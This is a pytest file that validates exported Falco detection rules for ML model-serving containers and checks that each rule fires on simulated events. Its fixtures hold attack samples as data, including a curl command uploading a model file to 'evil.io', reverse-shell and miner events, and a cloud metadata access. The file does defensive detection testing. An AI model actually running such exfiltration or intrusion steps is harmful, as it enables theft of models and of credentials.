"""`mlhunt guard --export-falco`: the exported file is Falco rules YAML, and the rules mean what
they say.

The schema below is Falco's rules-file format written from its documentation (rules basics,
rule fields, exceptions, overriding, versioning); conditions are read by tests/falco_lang.py.
Where the real `falco` binary exists, `falco -V` validates the file as well.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path
from typing import Any, Literal

import pytest
import yaml
from pydantic import BaseModel, ConfigDict, Field, ValidationError, field_validator

from mlhunt.errors import CatalogError
from mlhunt.guard.falco import RULES_FILE, build_items, export_falco, load_catalog
from tests.falco_lang import CMP_OPS, KNOWN_FIELDS, SET_OPS, ConditionError, evaluate, parse

PRIORITIES = {
    "emergency",
    "alert",
    "critical",
    "error",
    "warning",
    "notice",
    "informational",
    "debug",
}
_NAME = r"^[a-z_][a-z0-9_]*$"


class _Item(BaseModel):
    model_config = ConfigDict(extra="forbid", populate_by_name=True)


class FalcoList(_Item):
    list_: str = Field(alias="list", pattern=_NAME)
    items: list[str | int]
    override: dict[Literal["items"], Literal["append", "replace"]] | None = None


class FalcoMacro(_Item):
    macro: str = Field(pattern=_NAME)
    condition: str = Field(min_length=1)
    override: dict[Literal["condition"], Literal["append", "replace"]] | None = None


class FalcoException(_Item):
    name: str = Field(pattern=_NAME)
    fields: str | list[str]
    comps: str | list[str] | None = None
    values: list[Any] | None = None


class FalcoRule(_Item):
    rule: str = Field(pattern=r"^[A-Z]")  # style guide: rule names start upper-case
    desc: str = Field(min_length=20)
    condition: str = Field(min_length=1)
    output: str = Field(min_length=1)
    priority: str
    tags: list[str] = []
    enabled: bool = True
    source: str = "syscall"
    exceptions: list[FalcoException] = []
    warn_evttypes: bool | None = None
    skip_if_unknown_filter: bool | None = Field(default=None, alias="skip-if-unknown-filter")
    override: dict[str, Literal["append", "replace"]] | None = None

    @field_validator("priority")
    @classmethod
    def _priority(cls, v: str) -> str:
        if v.lower() not in PRIORITIES:
            raise ValueError(f"priority {v!r} is not one of Falco's")
        return v


class EngineVersion(_Item):
    required_engine_version: int | str

    @field_validator("required_engine_version")
    @classmethod
    def _version(cls, v: int | str) -> int | str:
        if isinstance(v, str) and not re.fullmatch(r"\d+\.\d+\.\d+", v):
            raise ValueError("a number or a semantic version")
        return v


class PluginVersions(_Item):
    required_plugin_versions: list[dict[str, Any]]


KINDS = {
    "rule": FalcoRule,
    "macro": FalcoMacro,
    "list": FalcoList,
    "required_engine_version": EngineVersion,
    "required_plugin_versions": PluginVersions,
}


def validate_rules_file(text: str) -> dict[str, Any]:
    """Falco's checks on a rules file, as far as the docs state them; returns the definitions."""
    doc = yaml.safe_load(text)
    assert isinstance(doc, list), "a rules file is a top-level YAML list"
    defs: dict[str, Any] = {"list": {}, "macro": {}, "rule": {}}
    for n, item in enumerate(doc):
        kinds = [k for k in KINDS if k in item]
        assert len(kinds) == 1, f"item {n} must be exactly one of {sorted(KINDS)}: {sorted(item)}"
        model = KINDS[kinds[0]].model_validate(item)
        if isinstance(model, FalcoList):
            assert model.list_ not in defs["list"], f"list {model.list_} defined twice"
            for value in model.items:  # list items may name earlier lists
                assert not re.fullmatch(r"mlh_\w+", str(value)) or value in defs["list"]
            defs["list"][model.list_] = model.items
        elif isinstance(model, FalcoMacro | FalcoRule):
            name = model.macro if isinstance(model, FalcoMacro) else model.rule
            kind = "macro" if isinstance(model, FalcoMacro) else "rule"
            assert name not in defs[kind], f"{kind} {name} defined twice"
            parsed = parse(model.condition, defs["list"])
            unknown = parsed.macros - defs["macro"].keys()
            assert not unknown, f"{name}: macros used before definition: {sorted(unknown)}"
            values = {v for node in _set_values(parsed.ast) for v in node}
            stray = {v for v in values if v.startswith("mlh_")} - defs["list"].keys()
            assert not stray, f"{name}: lists used before definition: {sorted(stray)}"
            assert parsed.fields <= KNOWN_FIELDS, f"{name}: {parsed.fields - KNOWN_FIELDS}"
            defs[kind][name] = (model, parsed)
            if isinstance(model, FalcoRule):
                _check_rule(model)
    return defs


def _set_values(node: tuple[Any, ...]) -> list[tuple[str, ...]]:
    if node[0] == "set":
        return [node[3]]
    return [v for child in node[1:] if isinstance(child, tuple) for v in _set_values(child)]


def _check_rule(rule: FalcoRule) -> None:
    assert rule.source == "syscall"
    outputs = re.findall(r"%([a-z0-9_]+(?:\.[A-Za-z0-9_]+)+)", rule.output)
    assert outputs, f"{rule.rule}: output names no fields"
    assert {o if o in KNOWN_FIELDS else o.rsplit(".", 1)[0] for o in outputs} <= KNOWN_FIELDS
    for exc in rule.exceptions:
        fields = [exc.fields] if isinstance(exc.fields, str) else exc.fields
        assert {f for f in fields} <= KNOWN_FIELDS, exc.fields
        if exc.comps is not None:
            comps = [exc.comps] if isinstance(exc.comps, str) else exc.comps
            assert len(comps) == len(fields), f"{exc.name}: one comp per field"
            assert set(comps) <= CMP_OPS | SET_OPS, comps


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    paths = export_falco(tmp_path_factory.mktemp("falco") / "nested" / "out")
    assert [p.name for p in paths] == [RULES_FILE]
    return paths[0]


@pytest.fixture(scope="module")
def defs(exported: Path) -> dict[str, Any]:
    return validate_rules_file(exported.read_text(encoding="utf-8"))


def test_export_round_trips_and_passes_the_schema(exported: Path, defs: dict[str, Any]) -> None:
    text = exported.read_text(encoding="utf-8")
    assert yaml.safe_load(text) == build_items()  # what was rendered is what loads back
    assert len(defs["rule"]) == len(load_catalog().rules) >= 8
    assert text.startswith("# mlhunt")


def test_every_rule_is_scoped_to_serving_containers(defs: dict[str, Any]) -> None:
    scope = load_catalog().scope_macro
    assert scope in defs["macro"]
    for name, (_rule, parsed) in defs["rule"].items():
        assert scope in parsed.macros, f"{name} is not scoped by {scope}"


def test_rules_carry_their_mapping(defs: dict[str, Any]) -> None:
    for unit in load_catalog().rules:
        rule, _ = defs["rule"][unit.rule["rule"]]
        assert {"mlhunt", unit.id, *unit.atlas} <= set(rule.tags)
        assert f"mlhunt_id={unit.id}" in rule.output
        assert "Tuning:" in rule.desc


BROKEN = [
    "(proc.name = sh",
    "proc.name = sh)",
    "proc.name =",
    "proc.name exists and",
    "proc.name in (sh, bash",
    "proc.name sh",
    "kube.pod.name = x",
    "and proc.name = sh",
]


@pytest.mark.parametrize("condition", BROKEN)
def test_condition_reader_rejects_broken_conditions(condition: str) -> None:
    with pytest.raises(ConditionError):
        parse(condition)


def test_schema_rejects_broken_items() -> None:
    good = {
        "rule": "R x",
        "desc": "a rule that is described well",
        "condition": "evt.num = 0",
        "output": "x %proc.name",
        "priority": "WARNING",
    }
    validate_rules_file(yaml.safe_dump([good]))
    for bad in (
        {**good, "priority": "severe"},
        {**good, "tags": "shell"},
        {"macro": "m"},
        {k: v for k, v in good.items() if k != "output"},
        {**good, "macro": "m"},
        {**good, "condition": "undefined_macro and evt.num = 0"},
        {**good, "condition": "proc.name in (mlh_missing_list)"},
        {**good, "condition": "proc.nmae = sh"},
        {**good, "output": "%proc.nmae"},
        {**good, "exceptions": [{"name": "e", "fields": ["proc.name"], "comps": ["=", "="]}]},
    ):
        with pytest.raises((ValidationError, AssertionError)):
            validate_rules_file(yaml.safe_dump([bad]))


def test_catalog_validation_catches_bad_units(tmp_path: Path) -> None:
    from mlhunt.guard import falco

    data = yaml.safe_load(falco._data_path().read_text(encoding="utf-8"))
    unit = data["rules"][0]
    cases = {
        "atlas": {**unit, "atlas": ["AML.T9999"]},
        "misses mlh_model_serving_container": {
            **unit,
            "falco": [{**unit["falco"][-1], "condition": "evt.num = 0"}],
        },
        "exactly one rule": {**unit, "falco": [*unit["falco"][:-1], {"macro": "m_x"}]},
        "id": {**unit, "id": "FALCO-1"},
    }
    for needle, broken in cases.items():
        path = tmp_path / "rules.yaml"
        path.write_text(yaml.safe_dump({**data, "rules": [broken]}), encoding="utf-8")
        with pytest.raises(CatalogError, match=needle):
            load_catalog(path)


# --- the rules fire on what they name (events as Falco's fields would show them) ---

SERVING = {
    "container.id": "3f2a9c1b7d4e",
    "container.name": "kserve-container",
    "container.image.repository": "docker.io/kserve/sklearnserver",
    "k8s.pod.name": "loan-predictor-0",
    "k8s.ns.name": "models",
    "user.name": "root",
    "proc.name": "python3",
    "proc.pname": "python3",
    "proc.cmdline": "python3 -m sklearnserver",
    "proc.tty": 0,
    "proc.is_exe_upper_layer": False,
    "evt.num": 48213,
}


def _exec(name: str, **kw: Any) -> dict[str, Any]:
    return {
        **SERVING,
        "evt.type": "execve",
        "evt.dir": "<",
        "proc.name": name,
        "proc.cmdline": kw.pop("cmdline", name),
        **kw,
    }


def _connect(ip: str, **kw: Any) -> dict[str, Any]:
    return {
        **SERVING,
        "evt.type": "connect",
        "evt.dir": "<",
        "fd.typechar": "4",
        "fd.sip": ip,
        "fd.snet": ip,
        "fd.sport": 443,
        "evt.rawres": 0,
        "evt.res": "SUCCESS",
        **kw,
    }


def _write(path: str, **kw: Any) -> dict[str, Any]:
    return {
        **SERVING,
        "evt.type": "openat",
        "evt.dir": "<",
        "evt.is_open_write": True,
        "fd.typechar": "f",
        "fd.num": 7,
        "fd.name": path,
        **kw,
    }


def _dup(rawres: int, fdtype: str) -> dict[str, Any]:
    return {**SERVING, "evt.type": "dup2", "evt.dir": "<", "evt.rawres": rawres, "fd.type": fdtype}


OTHER_POD = {"container.image.repository": "docker.io/library/redis", "container.name": "redis"}
STORAGE_INIT = {
    "container.image.repository": "kserve/storage-initializer",
    "container.name": "storage-initializer",
}
FIRES = {
    "MLH-FALCO-SERVING-SHELL": [
        _exec("sh", cmdline="sh -c id"),
        _exec("bash", **{"proc.pname": "runc", "proc.tty": 34816}),
        {
            **_exec("sh"),
            "container.image.repository": "acme/scorer",
            "k8s.pod.label[serving.kserve.io/inferenceservice]": "loan",
        },
    ],
    "MLH-FALCO-SERVING-PKG-MANAGER": [
        _exec("pip", cmdline="pip install requests"),
        _exec("python3", cmdline="python3 -m pip install x"),
    ],
    "MLH-FALCO-SERVING-NET-TOOL": [_exec("curl", cmdline="curl -T /mnt/models/m.pkl evil.io")],
    "MLH-FALCO-SERVING-REVERSE-SHELL": [_dup(0, "ipv4"), _dup(2, "ipv6")],
    "MLH-FALCO-SERVING-DROP-EXEC": [_exec("xmrig", **{"proc.is_exe_upper_layer": True})],
    "MLH-FALCO-INFERENCE-OUTBOUND": [
        _connect("93.184.216.34"),
        _connect("203.0.113.9", **{"evt.rawres": -115, "evt.res": "EINPROGRESS"}),
    ],
    "MLH-FALCO-SERVING-METADATA": [_connect("169.254.169.254", **{"fd.sport": 80})],
    "MLH-FALCO-MODEL-WRITE": [_write("/mnt/models/model.joblib"), _write("/tmp/backdoor.pt")],
}
QUIET = [  # what a model server and its pod do all day, and look-alikes outside serving pods
    _exec("python3", **{"proc.pname": "containerd-shim"}),
    _exec("sh", cmdline="sh -c tritonserver", **{"proc.pname": "runc:[1:CHILD]"}),
    _exec("curl", cmdline="curl -f localhost:8080/v2/health", **{"proc.pname": "runc"}),
    {**_exec("sh"), **OTHER_POD},
    {**_exec("sh"), "container.id": "host"},
    {**_exec("pip"), **OTHER_POD},
    _connect("10.96.0.10", **{"fd.sport": 53}),
    _connect("127.0.0.1"),
    _connect("93.184.216.34", **{"evt.rawres": -111, "evt.res": "ECONNREFUSED"}),
    {**_connect("93.184.216.34"), **OTHER_POD},
    _dup(1, "file"),
    _dup(5, "ipv4"),
    _write("/tmp/request.log"),
    {**_write("/mnt/models/model.joblib"), **STORAGE_INIT},
    {**_write("/mnt/models/model.joblib"), "evt.is_open_write": False},
    {**_write("/mnt/models/model.pt"), "k8s.pod.label[training.kubeflow.org/job-name]": "train"},
    {**_write("/mnt/models/model.pt"), **OTHER_POD},
]


def _fired(
    defs: dict[str, Any], event: dict[str, Any], macros: dict[str, Any] | None = None
) -> set[str]:
    ids = {u.rule["rule"]: u.id for u in load_catalog().rules}
    macros = macros or {name: p.ast for name, (_m, p) in defs["macro"].items()}
    return {
        ids[name]
        for name, (_r, p) in defs["rule"].items()
        if evaluate(p.ast, event, macros, defs["list"])
    }


def test_each_rule_fires_on_its_behaviour_only(defs: dict[str, Any]) -> None:
    assert set(FIRES) == {u.id for u in load_catalog().rules}
    for rule_id, events in FIRES.items():
        for event in events:
            assert _fired(defs, event) == {rule_id}, (rule_id, event)


@pytest.mark.parametrize("event", QUIET)
def test_normal_serving_activity_stays_quiet(defs: dict[str, Any], event: dict[str, Any]) -> None:
    assert _fired(defs, event) == set()


def test_scope_is_retargeted_by_overriding_the_user_macro(defs: dict[str, Any]) -> None:
    custom = {**_exec("sh"), "container.image.repository": "registry.acme.io/fraud-scorer"}
    assert _fired(defs, custom) == set()
    # What `override: {condition: replace}` on mlh_user_model_serving_containers does.
    macros = {name: p.ast for name, (_m, p) in defs["macro"].items()}
    macros["mlh_user_model_serving_containers"] = parse("(k8s.ns.name = models)").ast
    assert _fired(defs, custom, macros) == {"MLH-FALCO-SERVING-SHELL"}
    lists = {**defs["list"], "mlh_model_server_images": ["registry.acme.io/fraud-scorer"]}
    assert _fired({**defs, "list": lists}, custom) == {"MLH-FALCO-SERVING-SHELL"}


def test_export_into_a_file_path_is_one_line_input_error(tmp_path: Path) -> None:
    from mlhunt.errors import InputError

    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(InputError, match="cannot create the Falco folder"):
        export_falco(blocker / "sub")


@pytest.mark.skipif(shutil.which("falco") is None, reason="the falco binary is not installed")
def test_falco_binary_validates_the_export(exported: Path) -> None:
    proc = subprocess.run(
        ["falco", "-V", str(exported)], capture_output=True, text=True, timeout=120, check=False
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
